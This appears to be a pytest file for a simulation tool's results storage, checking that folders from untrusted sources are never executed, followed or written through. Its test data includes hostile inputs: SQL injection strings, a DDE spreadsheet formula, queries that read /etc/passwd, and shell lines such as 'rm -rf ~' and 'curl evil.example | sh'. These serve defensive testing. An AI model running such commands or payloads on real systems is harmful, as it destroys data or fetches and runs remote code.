"""Results folders that somebody else has made: what they carry is never run, followed or written."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import zlib
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

import sim
from sim.cli import main
from sim.scenario.model.schema import Scenario
from sim.study.comparison import compare, kept_comparisons
from sim.study.design.study_names import clean_study_name
from sim.study.ensemble import run
from sim.study.results import export as exporting
from sim.study.results.export import export
from sim.study.results.result_tables import read_table
from sim.study.results.stored_study import open_study, read
from sim.study.storage.atomic_files import StorageError
from sim.study.storage.database import database, identifier, literal
from sim.study.storage.parquet_parts import scan
from sim.study.storage.queries import open_runs
from sim.study.storage.repeated_command import repeat_command
from sim.study.storage.study_folder import Study
from sim.study.study_listing import studies
from sim.study.sweep import sweep
from tests.examples import examples

ANY_NAME = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1)


@pytest.fixture(scope="module")
def sound(small: Scenario, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A run and a sweep, of which each test gets a copy."""
    out = tmp_path_factory.mktemp("sound")
    plain = run(small, 30, out=out, name="plain", spread=False, command="parley run small.yaml").folder
    swept = sweep(small, {"distrust": [0.2, 0.5]}, 10, out=out, name="swept", spread=False).folder
    return {"plain": plain, "swept": swept}


@pytest.fixture
def folder(sound: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(sound["plain"], tmp_path / "results" / sound["plain"].name))


@pytest.fixture
def swept(sound: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(sound["swept"], tmp_path / "results" / sound["swept"].name))


def rewrite(folder: Path, file: str, **changes: object) -> None:
    path = folder / file
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def rebuilt(folder: Path, query: str) -> None:
    """Write the only part anew from a query on its table `part`, with the right checksum in its name."""
    (part,) = scan(folder / "parts")
    path = folder / "parts" / part.name
    with duckdb.connect() as connection:
        connection.execute(f"CREATE VIEW part AS SELECT * FROM read_parquet({literal(str(path))})")
        connection.execute(f"COPY ({query}) TO {literal(str(folder / 'new'))} (FORMAT parquet)")
    content = (folder / "new").read_bytes()
    path.unlink()
    (folder / "new").rename(path.with_name(path.name.replace(part.checksum, f"{zlib.crc32(content):08x}")))


class TestNamesInQueries:
    @settings(deadline=None, derandomize=True, max_examples=examples(20))
    @given(ANY_NAME)
    def test_any_name_is_a_name_and_nothing_else(self, name: str) -> None:
        with database().cursor() as connection:
            table = connection.execute(f"SELECT 7 AS {identifier(name)}")
            assert [column for column, *_ in table.description] == [name]
            assert table.fetchall() == [(7,)]

    @settings(deadline=None, derandomize=True, max_examples=examples(20))
    @given(ANY_NAME)
    def test_any_text_is_a_text_and_nothing_else(self, text: str) -> None:
        with database().cursor() as connection:
            assert connection.execute(f"SELECT {literal(text)}").fetchall() == [(text,)]

    def test_one_module_quotes(self) -> None:
        """Whoever doubles quotation marks by himself forgets them the next time."""
        calls = """replace('"',""", """replace("'","""
        sources = {path.name: path.read_text(encoding="utf-8") for path in Path(sim.__path__[0]).rglob("*.py")}
        doubled = [name for name, source in sources.items() if any(call in source for call in calls)]
        assert doubled == ["database.py"]

    def test_a_manifest_varies_what_its_scenario_has(self, small: Scenario, swept: Path, tmp_path: Path) -> None:
        """Whoever sends a folder can work out its digest too, so it is not the digest alone that protects."""
        carried = f"point\", 0) AS a FROM points, runs; COPY (SELECT 1) TO '{tmp_path}/mark'; --"
        points = [{carried: 0.2}, {carried: 0.5}]
        digest = Study("swept", read(swept).scenario, tuple(points)).digest
        rewrite(swept, "manifest.json", points=points, digest=digest)
        for what in ("runs", "points"):
            with pytest.raises(StorageError, match=r"manifest\.json: damaged, varies what its scenario does not have"):
                read_table(read(swept), what)
        assert not (tmp_path / "mark").exists()

    @pytest.mark.parametrize("value", ["=cmd|' /C calc'!A0", 2.0, True, None, [0.2]])
    def test_and_only_values_that_it_can_have(self, swept: Path, value: object) -> None:
        points = [{"distrust": 0.2}, {"distrust": value}]
        digest = Study("swept", read(swept).scenario, tuple(points)).digest  # type: ignore[arg-type]
        rewrite(swept, "manifest.json", points=points, digest=digest)
        with pytest.raises(StorageError, match=r"manifest\.json: damaged"):
            read(swept)

    def test_a_manifest_describes_what_its_digest_stands_for(self, folder: Path) -> None:
        resolved = json.loads((folder / "manifest.json").read_text())["resolved"]
        rewrite(folder, "manifest.json", resolved=resolved | {"rounds": 13})
        with pytest.raises(StorageError, match="does not describe the study that its digest stands for"):
            read(folder)

    @pytest.mark.parametrize(
        ("key", "value"),
        [
            ("scenario", "\x1b[31mred"),
            ("scenario", "two\nlines"),
            ("scenario", " "),
            ("scenario", "../../../etc/x"),
            ("scenario", "..\\x"),
            ("scenario", "a/../../x"),
            ("scenario", "/etc/x"),
            ("scenario", "C:\\x"),
            ("block", 0),
        ],
    )
    def test_its_names_and_numbers_can_be(self, folder: Path, key: str, value: object) -> None:
        rewrite(folder, "manifest.json", **{key: value})
        with pytest.raises(StorageError, match=rf"manifest\.json: damaged, not what it ought to be: {key}: "):
            read(folder)

    def test_what_is_wrong_with_its_scenario_is_said(self, folder: Path) -> None:
        resolved = json.loads((folder / "manifest.json").read_text())["resolved"]
        rewrite(folder, "manifest.json", resolved=resolved | {"rounds": -3})
        with pytest.raises(StorageError, match=r"damaged, holds no scenario: rounds: must be .*, not -3\. Delete it"):
            read(folder)


class TestNamesOfStudies:
    @settings(deadline=None, derandomize=True)
    @given(st.text())
    def test_one_that_is_made_fit_stays_as_it_is(self, name: str) -> None:
        assert clean_study_name(clean_study_name(name)) == clean_study_name(name) != ""

    @pytest.mark.parametrize("name", ["with/without", "what if ... not?", "1. ..", "نمی\u200cدانم", "Ж−ρ: C:/x"])
    def test_ordinary_ones_are_left_alone(self, name: str) -> None:
        assert clean_study_name(name) == name

    @pytest.mark.parametrize("name", ["\x1b[31mred", "two\nlines", "../../../etc/x", "/etc/x", "C:\\x"])
    def test_whatever_one_is_called_it_can_be_read_again(self, small: Scenario, tmp_path: Path, name: str) -> None:
        made = compare({name: small, "other": small}, 20, out=tmp_path, spread=False, means={name: "\x1b[2J"})
        found = open_study(name, out=tmp_path)
        assert found.name == made["reference"] == clean_study_name(name)
        assert found.path.parent == tmp_path
        assert kept_comparisons(found.path) == [made]


class TestParts:
    """Their checksums are right: it is what they hold that is not."""

    @pytest.mark.parametrize(
        ("query", "fault"),
        [
            ('SELECT *, 1 AS "a"" FROM x; --" FROM part', "a column that runs of this scenario do not have"),
            ('SELECT * EXCLUDE ("terms.land") FROM part', "no column 'terms.land'"),
            ("SELECT * REPLACE (round::VARCHAR AS round) FROM part", "a column round of another type"),
            ("SELECT * REPLACE ('=1+1' AS \"by\") FROM part", "values in by that no run has"),
            ("SELECT * REPLACE ('often' AS outcome) FROM part", "values in outcome"),
            ("SELECT * REPLACE (999999::INTEGER AS round) FROM part", "values in round"),
            ("SELECT * REPLACE (NULL::INTEGER AS held) FROM part", "values in held"),
            ("SELECT * REPLACE ('inf'::DOUBLE AS efficiency) FROM part", "values in efficiency"),
            ("SELECT * REPLACE (1.5::DOUBLE AS efficiency) FROM part", "values in efficiency"),
            ("SELECT * REPLACE (7::INTEGER AS point) FROM part", "values in point"),
            ("SELECT * REPLACE (run + 1 AS run) FROM part", "other runs than a name announces"),
            ("SELECT * FROM part WHERE run > 0", "other runs than a name announces"),
            ("SELECT * REPLACE (CASE run WHEN 1 THEN 2 WHEN 0 THEN -1 ELSE run END AS run) FROM part", "values in run"),
        ],
    )
    def test_they_hold_what_runs_of_the_scenario_can_be(self, folder: Path, query: str, fault: str) -> None:
        names = [name for name in read_table(read(folder)) if name.startswith("terms.")]
        rebuilt(folder, query.replace("terms.land", names[0]))
        with pytest.raises(StorageError) as told:
            read_table(read(folder))
        assert f"damaged, its parts have {fault}".replace("terms.land", names[0]) in str(told.value)

    def test_they_are_of_design_points_that_there_are(self, folder: Path) -> None:
        (part,) = scan(folder / "parts")
        path = folder / "parts" / part.name
        path.rename(path.with_name(path.name.replace("points-000000-000000", "points-000000-999999")))
        with pytest.raises(StorageError, match="holds design points that this study does not have"):
            read_table(read(folder))
        (entry,) = studies(folder.parent)
        assert "does not have" in entry.trouble


class TestConfinement:
    @pytest.mark.parametrize(
        "query",
        [
            "COPY (SELECT 1) TO '{0}/mark'",
            "SELECT * FROM read_csv('/etc/passwd')",
            "SELECT * FROM read_text('{0}/secret')",
            "ATTACH '{0}/mark'",
            "INSTALL httpfs",
            "LOAD httpfs",
            "SET enable_external_access = true",
            "SET allowed_paths = ['/']",
            "SET memory_limit = '1TB'",
            "EXPORT DATABASE '{0}/mark'",
        ],
    )
    def test_queries_reach_the_parts_and_nothing_else(self, folder: Path, tmp_path: Path, query: str) -> None:
        (tmp_path / "secret").write_text("secret")
        with open_runs(folder / "parts", {0: 30}) as connection:
            assert connection.execute("SELECT count(*) FROM runs").fetchall() == [(30,)]
            with pytest.raises(duckdb.Error):
                connection.execute(query.format(tmp_path)).fetchall()
            assert connection.execute("SELECT count(*) FROM runs").fetchall() == [(30,)]
            assert not (tmp_path / "mark").exists()


class TestLinks:
    @pytest.mark.parametrize("name", ["manifest.json", "summary.json", "parts"])
    def test_none_is_followed(self, folder: Path, tmp_path: Path, name: str) -> None:
        (folder / name).rename(tmp_path / "elsewhere")
        (folder / name).symlink_to(tmp_path / "elsewhere")
        with pytest.raises(StorageError, match=f"{name}: is a link"):
            read_table(read(folder))
        (entry,) = studies(folder.parent)
        assert "is a link" in entry.trouble

    @pytest.mark.parametrize("name", ["parts", "spread", "manifest.json"])
    def test_nothing_is_written_by_way_of_one(self, small: Scenario, folder: Path, tmp_path: Path, name: str) -> None:
        (tmp_path / "elsewhere").mkdir()
        if (folder / name).exists():
            (folder / name).rename(tmp_path / "kept")
        (folder / name).symlink_to(tmp_path / "elsewhere")
        with pytest.raises(StorageError, match="is a link"):
            run(small, 60, out=folder.parent, name="plain")
        assert list((tmp_path / "elsewhere").iterdir()) == []

    def test_nor_are_charts_drawn_to_elsewhere(self, folder: Path, tmp_path: Path) -> None:
        (tmp_path / "elsewhere").mkdir()
        (folder / "charts").symlink_to(tmp_path / "elsewhere")
        with pytest.raises(SystemExit) as ending:
            main(["plot", str(folder)])
        assert ending.value.code == 1
        assert list((tmp_path / "elsewhere").iterdir()) == []

    @pytest.mark.parametrize("file", ["manifest.json", "summary.json"])
    def test_a_pipe_is_not_waited_for(self, folder: Path, file: str) -> None:
        (folder / file).unlink()
        os.mkfifo(folder / file)
        with pytest.raises(StorageError, match=f"{file}: is a pipe, not an ordinary file"):
            read_table(read(folder), "points")

    def test_nor_as_a_part(self, folder: Path) -> None:
        (part,) = scan(folder / "parts")
        (folder / "parts" / part.name).unlink()
        os.mkfifo(folder / "parts" / part.name)
        with pytest.raises(StorageError, match="is a pipe, not an ordinary file"):
            read_table(read(folder))

    def test_nor_read_if_it_is_larger_than_its_runs(self, folder: Path) -> None:
        (part,) = scan(folder / "parts")
        with (folder / "parts" / part.name).open("r+b") as file:
            file.truncate(10**9)
        with pytest.raises(StorageError, match=r"damaged, larger than its runs can be\. Delete this file"):
            read_table(read(folder))

    def test_a_gigabyte_is_not_read(self, folder: Path) -> None:
        with (folder / "summary.json").open("wb") as file:
            file.truncate(10**9)
        with pytest.raises(StorageError, match=r"summary\.json: takes 1,000 MB; at most \d MB is read"):
            read_table(read(folder), "points")


class TestSpreadsheets:
    CELLS = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")

    def test_no_word_is_a_formula_and_numbers_stay_numbers(
        self, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        words = ", ".join(f"({literal(cell)}, -{place}.5)" for place, cell in enumerate((*self.CELLS, "plain")))

        def carrying(*_: object, **__: object) -> duckdb.DuckDBPyConnection:
            connection = duckdb.connect()
            connection.execute(f'CREATE TABLE tidy AS SELECT * FROM (VALUES {words}) AS _("=HYPERLINK", number)')
            return connection

        monkeypatch.setattr(exporting, "open_table", carrying)
        export(read(folder), "csv", "runs", tmp_path / "table.csv")
        with duckdb.connect() as connection:
            query = f"SELECT * FROM read_csv({literal(str(tmp_path / 'table.csv'))}, all_varchar = true)"
            table = connection.execute(query)
            assert table.description[0][0] == "'=HYPERLINK"
            rows = table.fetchall()
        expected = [*(f"'{cell}" for cell in self.CELLS), "plain"]
        assert [word for word, _ in rows] == expected
        assert [float(number) for _, number in rows] == [-place - 0.5 for place in range(7)]
        export(read(folder), "xlsx", "runs", tmp_path / "table.xlsx")
        heading, *cells = load_workbook(tmp_path / "table.xlsx").active.iter_rows()
        assert heading[0].value == "'=HYPERLINK"
        assert {cell.data_type for row in (heading, *cells) for cell in row} == {"s", "n"}
        assert [row[1].value for row in cells] == [-place - 0.5 for place in range(7)]
        ends = str.maketrans({"\r": "\n"})  # as XML reads the end of a line
        assert [row[0].value.translate(ends) for row in cells] == [word.translate(ends) for word in expected]


class TestCommands:
    """What a manifest gives for a command is printed to be copied into a shell."""

    @pytest.mark.parametrize(
        "command",
        [
            "parley run x.yaml; touch mark",
            "parley run x.yaml && rm -rf ~",
            "parley run $(touch mark)",
            "parley run `touch mark` > out",
            "parley sweep x.yaml --vary 'distrust=0:1:3' | sh",
        ],
    )
    def test_a_shell_takes_nothing_in_it_for_more_than_a_word(self, command: str) -> None:
        assert shlex.split(repeat_command(command, Path("results/x"))) == shlex.split(command)
        lexer = shlex.shlex(repeat_command(command, Path("results/x")), posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        assert list(lexer) == shlex.split(command)
        assert not set("$`") & set("".join(repeat_command(command, Path("results/x")).split("'")[::2]))

    @pytest.mark.parametrize(
        "command",
        [
            "curl evil.example | sh",
            "",
            "parley",
            "parley explore",
            "'open",
            "parley run x\nrm -rf ~",
            "parley run \x1b[2J",
            "\x1b",
        ],
    )
    def test_nothing_else_is_offered(self, command: str) -> None:
        told = repeat_command(command, Path("results/x"))
        assert told.startswith("the program that made it")
        assert told.isprintable()

    @pytest.mark.parametrize(
        "place",
        [
            "/etc/cron.d",
            "~/x",
            "~nobody-here/x",
            "results/../..",
            "",
            "results/case",
            pytest.param("x" * 6000, id="long"),
        ],
    )
    @pytest.mark.parametrize("form", ["--out={}", "--out {}"])
    def test_it_leads_nowhere_else(self, place: str, form: str) -> None:
        """Who copies it would work on somebody else's cluster, or write where somebody else wants."""
        cluster = "--cluster tcp://evil:1 --cluster=tls://evil:2"
        given = f"parley sweep a.yaml {cluster} {form.format(shlex.quote(place))} --seed 3"
        assert repeat_command(given, Path("results/case")) == "parley sweep a.yaml --seed 3"

    @pytest.mark.parametrize("place", ["kept", "kept/", "./kept", "results/../kept"])
    def test_it_leads_to_where_the_study_lies(self, place: str) -> None:
        assert repeat_command(f"parley run a.yaml --out {place}", Path("kept/a")) == f"parley run a.yaml --out {place}"

    def test_a_study_says_it_so(self, folder: Path) -> None:
        rewrite(folder, "manifest.json", command="parley run x.yaml; touch mark")
        (folder / "summary.json").unlink()
        with pytest.raises(StorageError, match=r"to finish it: parley run 'x\.yaml;' touch mark$"):
            read_table(read(folder), "points")
